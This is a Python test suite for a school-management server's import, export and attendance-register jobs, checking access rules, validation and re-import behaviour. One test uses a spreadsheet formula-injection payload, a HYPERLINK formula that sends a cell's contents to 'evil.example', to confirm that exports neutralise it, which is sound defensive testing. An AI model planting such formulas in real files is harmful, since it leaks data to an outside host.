"""
test_transfers.py - imports, exports and the printed register as jobs over HTTP (src/api/transfers.c,
src/jobs/): POST /imports/{kind} with a CSV body answers a job whose result is the import's report, GET
/exports/{kind} a job whose result names a CSV file, POST /reports/attendance-register a job whose result
names a PDF; the files are read back through /files/{id}/content by whoever asked (and the office), by
nobody else. The jobs run on the server's own workers (the SQL queue of the embedded profile). Both engines
(the api-pg stage runs it on PostgreSQL).
"""

import csv
import io
import json
import time
import unittest
import zipfile

import fixtures_academic
from harness import ServerTestCase, wait_until
from world import World

IMPORTS, EXPORTS, REGISTER = "/api/v1/imports", "/api/v1/exports", "/api/v1/reports/attendance-register"
JOBS, FILES, STUDENTS = "/api/v1/jobs", "/api/v1/files", "/api/v1/students"
HEADER = "admissionNo,firstName,lastName,dateOfBirth,guardian1FirstName,guardian1LastName,guardian1Email"


def students_csv(rows, tag):
    lines = [HEADER] + [f"{tag}-{i},Ima{i},Porter,2014-03-{1 + i % 28:02d},Gia{i},Porter,g{i}.{tag.lower()}@example.org"
                        for i in range(rows)]
    return "\r\n".join(lines) + "\r\n"


def csv_field(value):
    return '"' + value.replace('"', '""') + '"'


class TestTransfers(ServerTestCase):
    SERVER_ENV = {"ERP_SERVE_WORKERS": "2", "ERP_WORKER_POLL_MS": "20", "ERP_QUEUE_BACKOFF_MS": "50"}

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.world = World(cls.server)
        cls.A, cls.B = cls.world.A, cls.world.B
        fixtures_academic.build_school(cls.A, "A", 40)
        cls.admin = cls.A.client("admin")

    def finished(self, client, accepted, state="completed"):
        self.assertEqual(accepted.status, 202, accepted)
        jid = accepted.json["jobId"]
        self.assertEqual(accepted.headers["location"], f"{JOBS}/{jid}")
        job = wait_until(lambda: (lambda j: j if j["state"] in ("completed", "failed", "cancelled") else None)(
            client.get(f"{JOBS}/{jid}", expect=200).json), timeout=60, message=f"job {jid} finished")
        self.assertEqual(job["state"], state, job)
        return job

    def upload(self, kind, text, client=None, **kw):
        return (client or self.admin).post(f"{IMPORTS}/{kind}", body=text, content_type="text/csv", **kw)

    # ---- imports

    def test_an_import_runs_as_a_job_and_again_changes_nothing(self):
        text = students_csv(25, "TRA")
        res = self.upload("students", text)
        job = self.finished(self.admin, res)
        report = job["result"]
        self.assertEqual((report["imported"], report["created"], report["errorCount"]), (True, 25, 0), report)
        self.assertEqual(job["progress"], 100)
        found = [s for s in self.admin.get(f"{STUDENTS}?limit=500", expect=200).json["items"]
                 if s["admissionNo"].startswith("TRA-")]
        self.assertEqual(len(found), 25)
        # the upload is kept as a file of kind import, readable by the office
        meta = self.admin.get(f"{FILES}/{res.json['fileId']}", expect=200).json
        self.assertEqual((meta["kind"], meta["contentType"], meta["size"]), ("import", "text/csv", len(text)))
        again = self.finished(self.admin, self.upload("students", text))["result"]
        self.assertEqual((again["imported"], again["created"], again["updated"], again["unchanged"]),
                         (True, 0, 0, 25))

    def test_a_wrong_file_completes_with_its_errors_and_imports_nothing(self):
        text = students_csv(3, "BAD") + "BAD-9,Kim,Porter,2014-02-30,,,\r\n" + "BAD-10,,Porter,2014-01-01,,,\r\n"
        job = self.finished(self.admin, self.upload("students", text))
        report = job["result"]
        self.assertFalse(report["imported"])
        self.assertEqual(report["errorCount"], 2, report)
        self.assertEqual(sorted((e["line"], e["column"]) for e in report["errors"]),
                         [(5, "dateOfBirth"), (6, "firstName")])
        numbers = {s["admissionNo"] for s in self.admin.get(f"{STUDENTS}?limit=500", expect=200).json["items"]}
        self.assertFalse(any(n.startswith("BAD-") for n in numbers), "nothing imported")

    def test_an_uploaded_import_is_read_by_admins_only(self):
        # an upload is an admin's working file (staff, who may not import, may not read it either)
        text = students_csv(2, "ADM")
        res = self.upload("students", text)
        self.finished(self.admin, res)
        fid = res.json["fileId"]
        self.assertEqual(self.admin.get(f"{FILES}/{fid}/content", expect=200).body.decode(), text)
        if "admin2" not in self.A.users:
            self.A.add_user("admin2", "admin")
        self.A.client("admin2").get(f"{FILES}/{fid}", expect=200)  # another admin of the school
        for role in ("staff", "teacher", "parent", "student"):
            client = self.A.client(role)
            client.get(f"{FILES}/{fid}", expect=404)
            client.get(f"{FILES}/{fid}/content", expect=404)
            client.get(f"{FILES}/{fid}/url", expect=404)
        self.B.client("admin").get(f"{FILES}/{fid}", expect=404)

    def test_teachers_import(self):
        text = "employeeNo,firstName,lastName,email\r\nTT-1,Tam,Tutor,tam.tutor@example.org\r\n"
        report = self.finished(self.admin, self.upload("teachers", text))["result"]
        self.assertEqual((report["imported"], report["created"]), (True, 1))

    def test_a_staff_file_is_not_kept(self):
        """Its passwords live in the job only: no file of it, and no download of it."""
        text = "email,displayName,roles,password\r\nkept.not@example.org,Kept Not,staff,Sesame-Open-42!\r\n"
        res = self.upload("staff", text)
        self.assertNotIn("fileId", res.json)
        report = self.finished(self.admin, res)["result"]
        self.assertEqual((report["imported"], report["created"]), (True, 1), report)
        users = self.admin.get("/api/v1/users?limit=500", expect=200).json["items"]
        self.assertIn("kept.not@example.org", {u["email"] for u in users})
        self.upload("staff", b"email,displayName\r\nbad\xff@example.org,Bad\r\n", expect=422)

    def test_bad_uploads(self):
        self.upload("pupils", students_csv(1, "X"), expect=404)
        self.admin.post(f"{IMPORTS}/students", body=students_csv(1, "X"), content_type="application/json",
                        expect=415)
        self.admin.post(f"{IMPORTS}/students", body=b"a,b\r\n", content_type=None, expect=415)
        self.upload("students", "", expect=422)
        self.upload("students", "x" * (10 * 1024 * 1024 + 1), expect=413)
        for role in ("staff", "teacher", "parent", "student"):
            self.upload("students", students_csv(1, "ROLE"), client=self.A.client(role), expect=403)
        # a header only (no record) is a file that imports nothing, reported
        report = self.finished(self.admin, self.upload("students", HEADER + "\r\n"))["result"]
        self.assertEqual((report["imported"], report["rows"], report["created"]), (True, 0, 0))

    def test_templates(self):
        for kind in ("students", "teachers", "staff"):
            res = self.admin.get(f"{IMPORTS}/{kind}/template", expect=200)
            self.assertTrue(res.headers["content-type"].startswith("text/csv"))
            header = next(csv.reader(io.StringIO(res.body.decode())))
            self.assertIn("email" if kind == "staff" else "firstName", header)
        self.admin.get(f"{IMPORTS}/pupils/template", expect=404)
        self.A.client("teacher").get(f"{IMPORTS}/students/template", expect=403)
        # the template of students imports as it is (its example record)
        text = self.admin.get(f"{IMPORTS}/students/template", expect=200).body.decode()
        self.assertTrue(self.finished(self.admin, self.upload("students", text))["result"]["imported"])

    # ---- exports

    def export(self, client, path):
        job = self.finished(client, client.get(path))
        res = job["result"]
        self.assertEqual(res["contentType"], "text/csv")
        body = client.get(f"{FILES}/{res['fileId']}/content", expect=200).body.decode()
        self.assertEqual(len(body.encode()), res["size"])
        return job, list(csv.DictReader(io.StringIO(body)))

    def test_students_export_names_a_file_the_asker_reads(self):
        self.finished(self.admin, self.upload("students", students_csv(4, "EXP")))
        staff = self.A.client("staff")
        job, rows = self.export(staff, f"{EXPORTS}/students")
        self.assertEqual({r["admissionNo"] for r in rows if r["admissionNo"].startswith("EXP-")},
                         {f"EXP-{i}" for i in range(4)})
        fid = job["result"]["fileId"]
        self.admin.get(f"{FILES}/{fid}/content", expect=200)  # an admin
        for role in ("bursar", "teacher", "parent", "student"):  # a bulk export: its maker and the admins only
            self.A.client(role).get(f"{FILES}/{fid}/content", expect=404)
        self.B.client("admin").get(f"{FILES}/{fid}/content", expect=404)
        mine = self.finished(self.admin, self.admin.get(f"{EXPORTS}/guardians"))["result"]["fileId"]
        staff.get(f"{FILES}/{mine}/content", expect=404)  # not even the rest of the office

    def test_values_a_spreadsheet_would_run_are_exported_as_text_and_import_again(self):
        address = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
        text = (HEADER + ",address,phone\r\n"
                + f"FRM-1,Ima,Porter,2014-03-01,Gia,Porter,g.frm@example.org,{csv_field(address)},+91 98765 43210\r\n"
                + "FRM-2,Ida,Porter,2014-03-02,Gus,Porter,g2.frm@example.org,@SUM(1),\r\n")
        self.assertTrue(self.finished(self.admin, self.upload("students", text))["result"]["imported"])
        job = self.finished(self.admin, self.admin.get(f"{EXPORTS}/students"))
        body = self.admin.get(f"{FILES}/{job['result']['fileId']}/content", expect=200).body.decode()
        rows = {r["admissionNo"]: r for r in csv.DictReader(io.StringIO(body))}
        self.assertEqual(rows["FRM-1"]["address"], "'" + address)
        self.assertEqual(rows["FRM-1"]["phone"], "+91 98765 43210")  # a phone number stays as it is
        self.assertEqual(rows["FRM-2"]["address"], "'@SUM(1)")
        # the export imports again unchanged, and the values in the school are the ones typed
        again = self.finished(self.admin, self.upload("students", body))["result"]
        self.assertEqual((again["imported"], again["created"], again["updated"]), (True, 0, 0), again)
        found = {s["admissionNo"]: s for s in self.admin.get(f"{STUDENTS}?limit=500", expect=200).json["items"]}
        self.assertEqual(self.admin.get(f"{STUDENTS}/{found['FRM-1']['id']}", expect=200).json["address"], address)

    def test_the_same_export_asked_twice_at_once_is_one_job(self):
        # the same job within one 10-second window of the server's clock: start early in a window
        while time.time() % 10 > 3:
            time.sleep(0.1)
        a = self.admin.get(f"{EXPORTS}/guardians", expect=202).json["jobId"]
        self.finished(self.admin, self.admin.get(f"{EXPORTS}/guardians"))
        again = self.admin.get(f"{EXPORTS}/guardians", expect=202).json
        b = again["jobId"]
        self.assertEqual(a, b)
        self.assertEqual(again["state"], "completed", "the answer shows the existing job's state")
        c = self.A.client("staff").get(f"{EXPORTS}/guardians", expect=202).json["jobId"]
        self.assertNotEqual(a, c, "another account's export is its own job")

    def test_attendance_export_takes_a_range(self):
        on = self.A.academic["on"]
        cls = self.A.academic["classes"][0]["id"]
        _, rows = self.export(self.admin, f"{EXPORTS}/attendance?from={on(13)}&to={on(20)}&classId={cls}")
        self.assertIsInstance(rows, list)
        for q in ("", f"?from={on(13)}", f"?from={on(20)}&to={on(13)}", "?from=2027-02-30&to=2027-03-01",
                  f"?from={on(13)}&to={on(14)}&classId=nope"):
            self.admin.get(f"{EXPORTS}/attendance{q}", expect=422)
        self.admin.get(f"{EXPORTS}/students?from={on(13)}", expect=422)
        self.admin.get(f"{EXPORTS}/marks", expect=404)
        self.admin.get(f"{EXPORTS}/attendance?from={on(13)}&to={on(14)}&classId=00000000-0000-7000-8000-000000000000",
                       expect=404)
        for role in ("teacher", "parent", "student"):
            self.A.client(role).get(f"{EXPORTS}/students", expect=403)

    # ---- OneRoster

    def test_oneroster_export_then_import_into_another_school(self):
        job = self.finished(self.admin, self.admin.get(f"{EXPORTS}/oneroster"))
        res = job["result"]
        self.assertEqual((res["contentType"], res["filename"]), ("application/zip", "oneroster.zip"))
        data = self.admin.get(f"{FILES}/{res['fileId']}/content", expect=200).body
        with zipfile.ZipFile(io.BytesIO(data)) as z:
            self.assertIn("manifest.csv", z.namelist())
            users = list(csv.DictReader(io.StringIO(z.read("users.csv").decode())))
        self.assertIn(self.A.academic["student"]["id"], {u["sourcedId"] for u in users})
        # into school B, as its admin: the records arrive, and a second import changes nothing
        b = self.B.client("admin")
        report = self.finished(b, b.post(f"{IMPORTS}/oneroster", body=data, content_type="application/zip"))["result"]
        self.assertTrue(report["imported"], report)
        self.assertEqual(report["counts"]["students"]["created"], len([u for u in users if u["role"] == "student"]))
        numbers = {s["admissionNo"] for s in b.get(f"{STUDENTS}?limit=500", expect=200).json["items"]}
        self.assertIn(self.A.academic["student"]["admissionNo"], numbers)
        again = self.finished(b, b.post(f"{IMPORTS}/oneroster", body=data, content_type="application/zip"))["result"]
        self.assertTrue(again["imported"])
        self.assertTrue(all(c["created"] == 0 and c["updated"] == 0 for c in again["counts"].values()), again)
        # not a zip, or a zip without its manifest
        self.admin.post(f"{IMPORTS}/oneroster", body=b"sourcedId\r\n", content_type="application/zip", expect=422)
        self.admin.post(f"{IMPORTS}/oneroster", body=data, content_type="text/csv", expect=415)
        empty = io.BytesIO()
        with zipfile.ZipFile(empty, "w") as z:
            z.writestr("users.csv", "sourcedId\r\n")
        refused = self.finished(self.admin, self.admin.post(f"{IMPORTS}/oneroster", body=empty.getvalue(),
                                                            content_type="application/zip"))["result"]
        self.assertFalse(refused["imported"])
        self.assertGreater(refused["errorCount"], 0)
        self.admin.get(f"{IMPORTS}/oneroster/template", expect=404)

    # ---- the printed register

    def test_a_register_is_a_pdf_for_the_office_and_the_classes_teacher(self):
        cls = self.A.academic["classes"][0]
        month = self.A.academic["on"](20)[:7]
        job = self.finished(self.admin, self.admin.post(REGISTER, json={"classId": cls["id"], "month": month}))
        res = job["result"]
        self.assertEqual(res["contentType"], "application/pdf")
        pdf = self.admin.get(f"{FILES}/{res['fileId']}/content", expect=200).body
        self.assertTrue(pdf.startswith(b"%PDF-"), pdf[:10])
        grade = self.finished(self.admin, self.admin.post(REGISTER, json={"gradeLevel": 5, "month": month}))
        self.assertTrue(grade["result"]["filename"].startswith("register-grade-5-"))

    def test_teachers_ask_for_the_registers_of_their_classes_only(self):
        admin, teacher = self.admin, self.A.client("teacher")
        mine = self.A.academic["classes"][0]
        # the teacher account teaches the first class (a teacher record of the account with an assignment there)
        record = admin.post("/api/v1/teachers", json={"employeeNo": "REG-T", "firstName": "Reg", "lastName": "Teacher",
                                                     "userId": self.A.users["teacher"]["id"]}, expect=201).json
        subject = admin.post("/api/v1/subjects", json={"code": "REG", "name": "Registers"}, expect=201).json
        admin.post(f"/api/v1/classes/{mine['id']}/subjects", json={"subjectId": subject["id"],
                                                                  "teacherId": record["id"]}, expect=201)
        month = self.A.academic["on"](20)[:7]
        job = self.finished(teacher, teacher.post(REGISTER, json={"classId": mine["id"], "month": month}))
        fid = job["result"]["fileId"]
        teacher.get(f"{FILES}/{fid}/content", expect=200)
        self.A.client("teacher2").get(f"{FILES}/{fid}/content", expect=404)
        other = self.A.academic["classes"][1]
        teacher.post(REGISTER, json={"classId": other["id"], "month": month}, expect=404)
        teacher.post(REGISTER, json={"gradeLevel": 5, "month": month}, expect=403)
        for role in ("parent", "student"):
            self.A.client(role).post(REGISTER, json={"classId": mine["id"], "month": month}, expect=403)

    def test_register_requests_are_validated(self):
        cls = self.A.academic["classes"][0]["id"]
        for body in ({}, {"month": "2027-09"}, {"classId": cls}, {"classId": cls, "month": "2027-13"},
                     {"classId": cls, "month": "Sept"}, {"classId": cls, "gradeLevel": 5, "month": "2027-09"},
                     {"gradeLevel": 14, "month": "2027-09"}, {"gradeLevel": "5", "month": "2027-09"},
                     {"classId": 7, "month": "2027-09"}, {"classId": cls, "month": "2027-09", "extra": 1}):
            with self.subTest(body=body):
                self.admin.post(REGISTER, json=body, expect=422)
        self.admin.post(REGISTER, body="{not json", content_type="application/json", expect=400)
        self.admin.post(REGISTER, body='{"month": "2027-09"}', content_type="text/plain", expect=415)
        self.admin.post(REGISTER, json={"classId": cls, "month": "2027-09", "pad": "x" * (2 << 20)}, expect=413)
        self.admin.post(REGISTER, json={"classId": "00000000-0000-7000-8000-000000000000", "month": "2027-09"},
                        expect=404)


if __name__ == "__main__":
    unittest.main()
